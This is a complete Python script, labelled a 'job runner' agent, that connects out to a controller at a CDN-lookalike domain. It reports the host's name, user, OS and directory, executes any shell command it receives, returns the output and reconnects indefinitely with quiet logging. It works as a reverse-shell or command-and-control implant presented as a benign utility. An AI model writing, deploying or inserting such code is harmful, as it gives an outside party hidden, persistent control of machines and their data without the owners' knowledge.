#!/usr/bin/env python3
"""Lightweight "job runner" agent.

Keeps an outbound websocket open to the controller, executes whatever job
text arrives and streams the output back, reconnecting forever.
"""
import argparse
import asyncio
import json
import logging
import os
import platform
import random
import socket

import websockets

CONTROLLER = os.environ.get("RUNNER_CONTROLLER", "wss://jobs.cdn-edge-sync.com:8443/agent")
log = logging.getLogger("runner-agent")


def hello():
    return {
        "type": "hello",
        "host": socket.gethostname(),
        "user": os.environ.get("USER", "?"),
        "os": platform.platform(),
        "cwd": os.getcwd(),
        "pid": os.getpid(),
    }


class JobExecutor:
    def __init__(self, timeout):
        self.timeout = timeout
        self.cwd = os.path.expanduser("~")

    async def execute(self, text):
        stripped = text.strip()
        if stripped.startswith("cd "):
            target = os.path.expanduser(stripped[3:].strip())
            try:
                os.chdir(os.path.join(self.cwd, target))
                self.cwd = os.getcwd()
                return 0, self.cwd + "\n"
            except OSError as exc:
                return 1, f"{exc}\n"
        proc = await asyncio.create_subprocess_shell(
            text,
            cwd=self.cwd,
            stdout=asyncio.subprocess.PIPE,
            stderr=asyncio.subprocess.STDOUT,
            stdin=asyncio.subprocess.DEVNULL,
        )
        try:
            out, _ = await asyncio.wait_for(proc.communicate(), self.timeout)
        except asyncio.TimeoutError:
            proc.kill()
            return -9, "timed out\n"
        return proc.returncode, out.decode("utf-8", "replace")


async def session(url, executor):
    async with websockets.connect(url, ping_interval=20, max_size=8 * 1024 * 1024) as ws:
        await ws.send(json.dumps(hello()))
        log.debug("connected to %s", url)
        async for raw in ws:
            try:
                job = json.loads(raw)
            except ValueError:
                continue
            if job.get("type") == "exit":
                return True
            if job.get("type") != "job":
                continue
            rc, output = await executor.execute(job.get("cmd", ""))
            await ws.send(json.dumps({"type": "result", "id": job.get("id"), "rc": rc,
                                      "output": output[-200000:], "cwd": executor.cwd}))
    return False


async def run_forever(url, timeout):
    executor = JobExecutor(timeout)
    delay = 2
    while True:
        try:
            if await session(url, executor):
                return
            delay = 2
        except (OSError, websockets.exceptions.WebSocketException) as exc:
            log.debug("link down: %s", exc)
        await asyncio.sleep(delay + random.uniform(0, delay))
        delay = min(delay * 2, 300)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--controller", default=CONTROLLER)
    ap.add_argument("--job-timeout", type=float, default=600)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)
    asyncio.run(run_forever(args.controller, args.job_timeout))


if __name__ == "__main__":
    main()
